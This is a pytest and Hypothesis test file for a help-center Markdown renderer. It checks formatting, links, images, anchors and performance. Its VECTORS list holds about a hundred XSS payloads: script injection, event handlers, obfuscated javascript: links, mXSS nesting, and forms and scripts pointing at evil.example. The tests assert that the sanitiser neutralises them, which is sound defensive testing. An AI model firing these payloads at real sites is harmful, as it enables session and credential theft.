import re
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.core.markdown import (
    LONGEST,
    Anchors,
    Heading,
    LinkKind,
    Picture,
    Section,
    TextTooLong,
    anchor_of,
    render,
)
from kb.core.markdown.cleaning import clean

ARTICLES = {"reset": "/help/a/reset/", "sign-in": "/help/a/sign-in/"}
PICTURES = {"7": Picture("/media/articles/7.webp", "Settings page", 640, 480)}

TAGS = {
    "a", "aside", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5",
    "h6", "hr", "img", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "alt", "class", "decoding", "height", "href", "id", "loading", "rel", "role", "scope",
    "src", "start", "tabindex", "width",
}  # fmt: skip
ADDRESS = re.compile(r"(https?://|mailto:|tel:|/(?![/\\])|#)", re.IGNORECASE)


def shown(text):
    return render(text, images=PICTURES.get, links=ARTICLES.get)


class Reader(HTMLParser):
    """Reads HTML as a browser would and keeps what could do harm."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.addresses, self.sources = [], [], [], []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            self.attributes.append(name)
            if name == "href":
                self.addresses.append(value)
            if name == "src":
                self.sources.append(value)

    def handle_data(self, data):
        self.text += data


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def harm_in(html):
    """Return what in the HTML is not on the list; empty when it is harmless."""
    page = read(html)
    found = [tag for tag in page.tags if tag not in TAGS]
    found += [name for name in page.attributes if name not in ATTRIBUTES]
    found += [url for url in page.addresses if not ADDRESS.match(url)]
    return found + [url for url in page.sources if url != "/media/articles/7.webp"]


# Collected from the OWASP filter evasion cheat sheet, the test suites of DOMPurify and
# CommonMark, and published advisories of Markdown renderers; chosen and shortened here.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div id=location class=so-dialog>x</div>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!ENTITY x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61)",
    "[x](&#106;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](\\j\\avascript:alert(1))",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](view-source:https://example.com)",
    "[x](filesystem:https://example.com/x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](http:\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](http://)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x](<https://a.example/><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x@y.example>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <javascript:alert(1)> 'title'",
    "[x][R]\n\n[r]: https://a.example 'a\" onclick=\"alert(1)'\n[r]: javascript:alert(1)",
    "[javascript:alert(1)][]\n\n[javascript:alert(1)]: data:text/html,x",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/media/articles/other.svg)",
    "![x\" onerror=\"alert(1)](image:7)",
    "![<img src=x onerror=alert(1)>](image:7)",
    "![x](image:7 'a\" onload=\"alert(1)')",
    "![x](image:../../etc/passwd)",
    "![x](image:7#\" onerror=alert(1))",
    "[x](article:reset#\" onclick=\"alert(1))",
    "[x](<article:reset\" onclick=\"alert(1)>)",
    "[x](article:javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x' onmouseover='alert(1)\nx\n```",
    "~~~ html onload=alert(1)\n<script>alert(1)</script>\n~~~",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# "><script>alert(1)</script>',
    "|<script>alert(1)</script>|\n|:-:|\n|<svg onload=alert(1)>|",
    "> **Note:** <script>alert(1)</script>",
    "> **Warning\" onclick=\"alert(1):** x",
    "- [x\" onclick=alert(1)] a",
    "- [x] <input onfocus=alert(1)>",
    "1000000000000000000000. x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\u2028<script>alert(1)</script>\ufeff",
    "*<b*<script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", VECTORS)
def test_hostile_text_becomes_harmless(text):
    assert harm_in(shown(text).html) == []


@pytest.mark.parametrize("text", VECTORS)
@pytest.mark.parametrize(
    "frame", ["> {}", "- {}", "1. {}", "# {}", "**{}**", "[{}](/a)"]
)
def test_hostile_text_becomes_harmless_inside_something_else(text, frame):
    assert harm_in(shown(frame.format(text)).html) == []


@pytest.mark.parametrize("html", [text for text in VECTORS if text.startswith("<")])
def test_second_lock_holds_alone(html):
    assert harm_in(clean(html)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=' javascript:x'>",
        "<img src=/b.png>",
    ],
)
def test_these_tests_would_see_harm(html):
    assert harm_in(html) != []


pieces = st.sampled_from(
    [
        "<", ">", '"', "'", "`", "```", "~~~", "[", "]", "(", ")", "![", "](", ":", "#",
        "\\", "&", "&#x3c;", "&lt;", "&colon;", "javascript:", "data:", "image:7",
        "article:reset", "https://a.example/", "<script>", "</script>", "<img src=x ",
        "onerror=alert(1)", "<svg ", "<!--", "-->", "\n", "\n\n", "> ", "- ", "1. ", "|",
        "|-|", "    ", "**Note:** ", "- [x] ", "[r]: ", "\x00", "\t", "a", "語", "*", "_",
    ]
)  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(pieces, max_size=30).map("".join))
def test_text_made_of_dangerous_pieces_is_harmless(text):
    assert harm_in(shown(text).html) == []


@settings(deadline=None, max_examples=150)
@given(st.text(max_size=200))
def test_any_text_is_harmless_and_its_anchors_are_unique(text):
    rendered = shown(text)
    anchors = [heading.anchor for heading in rendered.contents]

    assert harm_in(rendered.html) == []
    assert len(set(anchors)) == len(anchors)
    assert all(f'id="{anchor}"' in rendered.html for anchor in anchors)


@settings(deadline=None, max_examples=100)
@given(st.text(st.characters(codec="utf-8", categories=["L", "N"]), min_size=1))
def test_words_are_shown_as_they_were_written(text):
    assert read(shown(text).html).text.strip() == text
    assert shown(text).plain == text


def test_html_is_shown_as_text():
    assert read(shown("<b onclick=x>Save</b>").html).text.strip() == (
        "<b onclick=x>Save</b>"
    )


def test_paragraphs_lists_tables_and_code():
    html = shown(
        "A *b* **c** ~~d~~ `e`\n\n3. x\n4. y\n\n"
        "| n | m |\n|:--|--:|\n| 1 | 2 |\n\n```python x\na < b\n```\n"
    ).html

    assert "<p>A <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>" in html
    assert '<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>' in html
    assert '<div class="so-table-scroll" tabindex="0"><table>' in html
    assert '<th class="so-left" scope="col">n</th>' in html
    assert '<td class="so-right">2</td>' in html
    assert (
        '<pre tabindex="0"><code class="language-python">a &lt; b\n</code></pre>'
        in html
    )


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("> **Note:** x", "note"),
        ("> **Warning:** x", "warning"),
        ("> **tip**: x", "tip"),
        ("> **注意：** x", "warning"),
    ],
)
def test_callout_becomes_a_box(text, kind):
    html = shown(text).html

    assert html.startswith(f'<aside class="so-callout so-callout--{kind}" role="note">')
    assert html.endswith("</aside>\n")


@pytest.mark.parametrize(
    "text",
    ["> Note: x", "> x **Note:**", "> **Note** x", "> **Danger:** x", ">", "> - x"],
)
def test_other_quotes_stay_quotes(text):
    assert shown(text).html.startswith("<blockquote>")


def test_callout_in_a_quote_closes_what_it_opened():
    html = shown("> x\n>\n> > **Tip:** y\n>\n> z").html

    assert html.index("<aside") < html.index("</aside>") < html.index("z</p>")
    assert html.endswith("</blockquote>\n")


def test_tasks_are_signs_and_not_checkboxes():
    html = shown("- [ ] open\n- [x] done\n- plain\n").html

    assert html == (
        '<ul class="so-tasks">\n<li class="so-task">☐ open</li>\n'
        '<li class="so-task">☑ done</li>\n<li>plain</li>\n</ul>\n'
    )


def test_link_to_an_article_leads_to_its_page():
    rendered = shown("[a](article:reset) [b](article:reset#Step-1) [c](article:gone)")

    assert '<a href="/help/a/reset/">a</a>' in rendered.html
    assert '<a href="/help/a/reset/#s-step-1">b</a>' in rendered.html
    assert '<span class="so-broken-link">c</span>' in rendered.html
    assert [(link.target, link.is_broken) for link in rendered.links] == [
        ("reset", False),
        ("reset", False),
        ("gone", True),
    ]
    assert [(x.kind, x.text) for x in rendered.broken_links] == [
        (LinkKind.ARTICLE, "c")
    ]


def test_link_to_a_section_is_checked():
    rendered = shown("## Step 1\n\n[a](#step-1) [b](#s-step-1) [c](#step-2)")

    assert rendered.html.count('<a href="#s-step-1">') == 2
    assert [link.text for link in rendered.broken_links] == ["c"]


def test_link_to_a_japanese_section_is_found():
    rendered = shown("## 設定の変更\n\n[a](#設定の変更)")

    assert rendered.broken_links == ()
    assert '<a href="#s-設定の変更">a</a>' in rendered.html


@pytest.mark.parametrize(
    ("href", "kind"),
    [
        ("https://example.com/a?b=c#d", LinkKind.EXTERNAL),
        ("mailto:help@example.com", LinkKind.CONTACT),
        ("tel:+351-21-000", LinkKind.CONTACT),
        ("/help/contact/", LinkKind.PAGE),
    ],
)
def test_other_links_are_kept(href, kind):
    (link,) = shown(f"[x]({href})").links

    assert (link.kind, link.url, link.is_broken) == (kind, href, False)


def test_only_links_to_other_sites_are_marked_as_such():
    html = shown("[a](https://example.com) [b](/help/) [c](article:reset)").html

    assert '<a href="https://example.com" rel="nofollow noopener">a</a>' in html
    assert html.count("rel=") == 1


def test_refused_link_is_shown_as_its_text_and_reported():
    rendered = shown("[click *here*](javascript:alert(1))")

    assert rendered.html == (
        '<p><span class="so-broken-link">click <em>here</em></span></p>\n'
    )
    (link,) = rendered.links
    assert (link.kind, link.target) == (LinkKind.REFUSED, "javascript:alert(1)")
    assert (link.text, link.url) == ("click here", "")


def test_picture_of_the_store_is_shown():
    rendered = shown("![Where *Save* is](image:7) ![](image:7)")

    assert (
        '<img src="/media/articles/7.webp" alt="Where Save is" loading="lazy"'
        ' decoding="async" width="640" height="480">'
    ) in rendered.html
    assert 'alt="Settings page"' in rendered.html
    assert rendered.broken_links == ()
    assert rendered.plain == "Where Save is Settings page"


def test_picture_can_be_a_link_and_stand_in_a_heading():
    rendered = shown("## Save ![button](image:7)\n\n[![](image:7)](article:reset)")

    assert rendered.contents == (Heading(2, "Save button", "s-save-button"),)
    assert rendered.sections[0].heading == "Save button"
    assert '<a href="/help/a/reset/"><img src=' in rendered.html
    assert rendered.links[-1].text == "Settings page"


@pytest.mark.parametrize("src", ["image:8", "https://example.com/a.png", "a.png"])
def test_picture_from_elsewhere_is_its_text(src):
    rendered = shown(f"![a chart]({src})")

    assert '<span class="so-broken-image">a chart</span>' in rendered.html
    assert [link.text for link in rendered.broken_links] == ["a chart"]


@pytest.mark.parametrize(
    "url",
    ["/media/a.svg", "/media/a.SVG?x=1", "data:image/png;base64,x", "//evil/a.png"],
)
def test_picture_the_store_should_not_have_is_refused(url):
    rendered = render("![a](image:7)", images=lambda _key: Picture(url))

    assert "<img" not in rendered.html
    assert [link.kind for link in rendered.broken_links] == [LinkKind.IMAGE]


def test_without_resolvers_nothing_is_known():
    rendered = render("[a](article:reset) ![b](image:7)")

    assert len(rendered.broken_links) == 2
    assert "<a" not in rendered.html
    assert "<img" not in rendered.html


def test_contents_start_below_the_title_of_the_page():
    rendered = shown("# One\n\n## Two *x*\n\n> # In a quote\n\n###### Six")

    assert rendered.contents == (
        Heading(2, "One", "s-one"),
        Heading(3, "Two x", "s-two-x"),
        Heading(6, "Six", "s-six"),
    )
    assert "<h1" not in rendered.html


def test_levels_stay_without_a_first_level():
    assert [heading.level for heading in shown("## A\n\n### B").contents] == [2, 3]


@pytest.mark.parametrize(
    ("text", "anchor"),
    [
        ("Step 1: Open", "s-step-1-open"),
        ("Straße & Öl", "s-strasse-öl"),
        ("ＡＢＣ　設定", "s-abc-設定"),
        ("…", "s-section"),
        ("x" * 200, "s-" + "x" * 80),
    ],
)
def test_anchor_is_readable(text, anchor):
    assert anchor_of(text) == anchor


def test_repeated_headings_have_anchors_of_their_own():
    anchors = Anchors()

    assert [anchors.add(text) for text in ["A", "A 2", "A", "A", "a"]] == [
        "s-a",
        "s-a-2",
        "s-a-3",
        "s-a-4",
        "s-a-5",
    ]


def test_anchors_do_not_move_when_text_between_them_changes():
    before = shown("## A\n\nx\n\n## B").contents
    after = shown("## A\n\nlonger text\n\n- list\n\n## B").contents

    assert before == after


def test_sections_carry_the_text_under_each_heading():
    rendered = shown(
        "Intro\nline.\n\n## Steps\n\n1. Open\n2. Save\n   - twice\n\nThen:\n\n"
        "```\na\n\nb\n```\n\n### Table\n\n| n | m |\n|--|--|\n| 1 | `2` |\n"
    )

    assert rendered.sections == (
        Section("", "", "Intro line."),
        Section("Steps", "s-steps", "1. Open\n2. Save\n  - twice\n\nThen:\n\na\nb"),
        Section("Table", "s-table", "n | m\n1 | 2"),
    )
    assert rendered.plain.startswith("Intro line.\n\nSteps\n\n1. Open\n2. Save")


def test_empty_article_is_empty():
    rendered = shown("")

    assert (rendered.html, rendered.plain) == ("", "")
    assert (rendered.contents, rendered.sections, rendered.links) == ((), (), ())


def test_text_that_is_too_long_is_refused_with_its_length():
    assert len(shown("a" * LONGEST).plain) == LONGEST
    with pytest.raises(TextTooLong, match="100000 characters: 100001") as caught:
        shown("a" * (LONGEST + 1))
    assert (caught.value.length, caught.value.limit) == (100_001, 100_000)


def steps_taken(text):
    """Count the lines of Python run while an article is rendered."""
    count = 0

    def step(_frame, event, _argument):
        nonlocal count
        count += event == "line"
        return step

    before = sys.gettrace()
    sys.settrace(step)
    try:
        shown(text)
    finally:
        sys.settrace(before)
    return count


DEEP = {
    "brackets": "[", "pictures": "![", "links": "[a](", "ends": "](", "bold": "**a",
    "mixed emphasis": "*a_ ", "quotes": "> ", "lists": "- a\n", "tags": "<a", "pipes": "a|",
    "backticks": "`a``b", "strike": "~~a", "entities": "&#", "definitions": "[a]: b\n",
    "headings": "# a\n", "tasks": "- [ ] a\n", "callouts": "> **Note:** a\n\n",
    "articles": "[a](article:b) ", "comments": "<!--", "fences": "```\n", "rules": "* * ",
    "rows": "|a|\n|-|\n",
}  # fmt: skip


@pytest.mark.parametrize("piece", DEEP.values(), ids=DEEP)
def test_work_grows_with_the_length_and_not_with_its_square(piece):
    short, long = (steps_taken(piece * (size // len(piece))) for size in (1000, 4000))

    assert long < 5.5 * short + 1000  # four times the text; the square would be 16


@pytest.mark.parametrize(
    "text",
    [
        "[x]: /" + "u" * 1900 + "\n\n" + "[x] " * 20_000,
        "[x]: /u '" + "t" * 40_000 + "'\n\n" + "[x] " * 10_000,
        "|a" * 900 + "|\n" + "|-" * 900 + "|\n" + "|x|\n" * 10_000,
    ],
    ids=["long address used often", "long title used often", "rows that are filled up"],
)
def test_short_text_makes_no_huge_page(text):
    assert len(shown(text).html) < 15 * LONGEST
